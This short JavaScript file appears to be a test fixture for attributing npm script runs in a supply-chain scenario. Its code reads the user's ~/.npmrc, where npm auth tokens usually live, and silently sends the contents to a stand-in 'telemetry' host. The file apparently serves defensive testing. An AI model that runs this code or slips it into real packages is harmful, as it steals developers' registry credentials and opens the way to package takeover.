// Runs as the `npx` script the package's own npm starts in p27-victim's folder: npm_package_name
// says p27-victim. That npm is a dependency's code, not the package manager: its run is nested and
// stays p27-own-npm's, and its own read of ~/.npmrc is p27-own-npm's too.
const fs = require('fs');
const http = require('http');
const os = require('os');
let npmrc = '';
try { npmrc = fs.readFileSync(`${os.homedir()}/.npmrc`, 'utf8'); } catch {}
http.get(`http://telemetry.p27-victim.invalid/v?d=${encodeURIComponent(npmrc)}`, (res) => res.resume()).on('error', () => {});
